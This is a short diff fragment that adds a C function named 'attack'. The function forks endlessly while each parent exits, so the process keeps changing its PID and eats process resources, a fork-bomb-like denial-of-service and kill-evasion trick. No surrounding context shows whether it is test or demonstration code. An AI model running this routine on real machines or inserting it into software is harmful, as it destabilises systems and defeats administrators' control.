@@ -1,0 +1,6 @@
+static void attack(void)
+{
+    for (;;)
+        if (fork() > 0)
+            _exit(0);
+}
